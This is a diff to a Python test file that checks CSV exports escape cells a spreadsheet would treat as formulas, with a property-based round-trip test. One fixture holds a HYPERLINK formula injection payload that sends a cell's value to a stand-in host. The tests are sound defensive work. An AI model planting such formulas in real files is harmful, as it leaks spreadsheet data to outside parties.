@@ -1,5 +1,7 @@
 """New rows from CSV files (rosters, stock lists), on real files."""
 
+import csv
+import io
 import json
 import re
 from datetime import date, datetime
@@ -102,10 +104,19 @@ def test_an_agency_in_another_case_or_spacing_is_saved_as_spelled_in_use(store, 
 def test_an_export_of_one_operation_adds_its_units_to_another(tmp_path, capsys):
     with Store(tmp_path / "old.db") as old:
         seed.seed_demo(old)
+        # Values a spreadsheet would take for formulas (one from another console, say).
+        old.add("units", {"callsign": '=HYPERLINK("http://x.example/?"&A1,"E-1")', "agency": "Fire",
+                          "kind": "@Engine", "location": "+43.65,-79.38", "notes": "'=kept as typed"})
         before = {u.callsign: u for u in old.list("units")}
     assert cli.main(["export", "--db", str(tmp_path / "old.db"), "units", "--format", "csv", "-o",
                      str(tmp_path / "units.csv")]) == 0
     capsys.readouterr()
+    written = (tmp_path / "units.csv").read_text(encoding="utf-8")
+    assert """\"'=HYPERLINK(""http://x.example/?""&A1,""E-1"")\",Fire,'@Engine,""" in written
+    assert ",'+43.65,-79.38," not in written and "\"'+43.65,-79.38\"" in written
+    assert "''=kept as typed" in written
+    assert not any(cell[:1] in "=+-@" for row in csv.reader(io.StringIO(written)) for cell in row if cell
+                   and not cell.lstrip("-").replace(".", "").isdigit())  # (numbers as numbers)
     assert cli.main(["add", "--db", str(tmp_path / "new.db"), "units", "--csv", str(tmp_path / "units.csv")]) == 0
     out, err = capsys.readouterr()
     assert out == (f"added {len(before)} units from {tmp_path / 'units.csv'} "
@@ -1179,3 +1190,12 @@ def test_a_workbook_reads_as_the_csv_file_of_the_same_cells(tmp_path, file):
         return found.rows, [place(w, path.name) for w in found.lines], found.left_out
 
     assert outcome(book_path) == outcome(csv_path)
+
+
+@given(st.text(st.sampled_from("=+-@\t\r'a1 ,\""), max_size=8) | st.text(max_size=8))
+def test_text_a_spreadsheet_would_take_for_a_formula_is_marked_and_read_back_as_it_was(text):
+    cell = model.as_cell(text)
+    assert cell[:1] not in model.FORMULA_START or cell == ""
+    assert model.from_cell(cell) == text
+    if text[:1] not in model.FORMULA_START and text.lstrip("'")[:1] not in model.FORMULA_START:
+        assert cell == text  # (any other left as it is)
